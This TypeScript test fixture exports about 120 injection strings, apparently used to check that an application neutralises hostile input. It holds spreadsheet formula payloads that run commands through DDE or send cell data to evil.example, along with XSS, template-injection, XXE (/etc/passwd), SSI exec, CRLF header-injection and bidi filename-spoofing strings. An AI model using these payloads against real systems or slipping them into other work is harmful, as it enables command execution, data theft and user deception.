/** A hundred and twenty texts that would act if somebody took them for more than text (T21, T22). */

const formulas = [
  ...[
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=WEBSERVICE("http://evil.example")',
  ],
  ...[
    '=IMPORTXML("http://evil.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!A1",
    '=SUM(A1:A9)',
  ],
  ...[
    '=INDIRECT("A1")',
    '={1;2}',
    '==1',
    '= 1+1',
    '=1+1;',
    '=@SUM(1)',
    '=-1',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  ],
  ...['+1+1', "+cmd|' /C calc'!A0", '++1', '+A1', '+HYPERLINK("http://evil.example")', '+（1）', '+86 13800001111'],
  ...['-1+1', "-cmd|' /C calc'!A0", '--1', '-A1', "-2+3+cmd|' /C calc'!D2", '-SUM(1)', '- 1', '-１'],
  ...['@SUM(1+1)', "@SUM(A1)*cmd|' /C calc'!A0", '@@', '@A1', '@企业', '@HYPERLINK("http://evil.example")'],
  ...['＝1+1', "＝cmd|' /C calc'!A0", '＋1+1', '－1+1', '＠SUM(1)', '＝HYPERLINK("http://evil.example")'],
  ...[
    "'=1+1",
    '"=1+1"',
    '" =1+1',
    ';=1+1',
    ',=1+1',
    '|=1+1',
    '%=1',
    '!=1',
    '[=1]',
    '(=1+1)',
    '\u00a0=1+1',
    '\u200b=1+1',
    '　=1+1',
  ],
];

const pages = [
  ...[
    '<script>window.planted=1</script>',
    '<img src=x onerror=window.planted=1>',
    '<svg onload=window.planted=1>',
    '<svg/onload=window.planted=1>',
  ],
  ...[
    '"><script>window.planted=1</script>',
    "'><img src=x onerror=window.planted=1>",
    '</title><script>window.planted=1</script>',
    '</textarea><script>window.planted=1</script>',
  ],
  ...[
    '<iframe src="javascript:window.parent.planted=1">',
    '<a href="javascript:window.planted=1">点</a>',
    '<body onload=window.planted=1>',
    '<input autofocus onfocus=window.planted=1>',
  ],
  ...[
    '<details open ontoggle=window.planted=1>',
    '<video><source onerror=window.planted=1>',
    '<math><a xlink:href=javascript:window.planted=1>',
    '<object data="javascript:window.planted=1">',
  ],
  ...[
    '<style>*{display:none}</style>',
    '<link rel=stylesheet href=//evil.example/a.css>',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<base href=//evil.example>',
  ],
  ...[
    '{{constructor.constructor("window.planted=1")()}}',
    '${window.planted=1}',
    '#{7*7}',
    '<%= 7*7 %>',
    '{{7*7}}',
    '${7*7}',
    '*{7*7}',
    '@{7*7}',
  ],
  ...[
    '&lt;script&gt;',
    '&#60;script&#62;window.planted=1',
    '<!--#exec cmd="id"-->',
    '<![CDATA[<script>]]>',
    '<?php phpinfo();?>',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    'javascript:window.planted=1',
    'data:text/html,<script>window.planted=1</script>',
  ],
];

const separators = [
  ...['a","b', 'a,b,c', 'a"b', '"', '""', '"a', 'a;b', 'a\tb', 'a|b', ',,,'],
  ...['a\r\nb', 'a\nb', '\r\n=1+1', '\n=1+1', '\t=1+1', 'a\r\nSet-Cookie: x=1', '{"level":50}\n{"level":60}'],
];

const directions = [
  ...['\u202d=1+1', '\u2067@A1', '\u00ad=1+1', '\u2028=1+1', '\u3000＝1+1', '\ufe0f=1+1'],
  '\u202egnp.exe',
  'a\u202eb\u202c',
  '\u2066=1+1\u2069',
  '\u200f=1',
  '\u061c-1',
  '\ufeff=1+1',
];

export const payloads: readonly string[] = [...formulas, ...pages, ...separators, ...directions];
